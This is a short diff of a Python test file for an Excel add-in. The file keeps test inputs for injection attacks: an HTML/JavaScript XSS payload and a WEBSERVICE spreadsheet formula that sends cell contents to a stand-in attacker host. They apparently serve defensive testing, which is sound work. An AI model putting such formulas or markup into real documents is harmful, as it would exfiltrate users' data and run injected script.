@@ -5,9 +5,8 @@ import pytest
 from openpyxl.formula.tokenizer import Token, Tokenizer
 
 from tests.addin.excel.panes import Pane, opened
-from tests.project.files import PROJECT
+from tests.addin.excel.stand_in import OFFICE
 
-OFFICE = (PROJECT / "tests/node/excel.js").read_text(encoding="utf-8")
 MARKUP = "<img src=http://evil.example/x onerror='window.hacked = 1'><script>window.hacked = 1</script>"
 ATTACKS = [
     '=WEBSERVICE("http://evil.example/"&A1)',
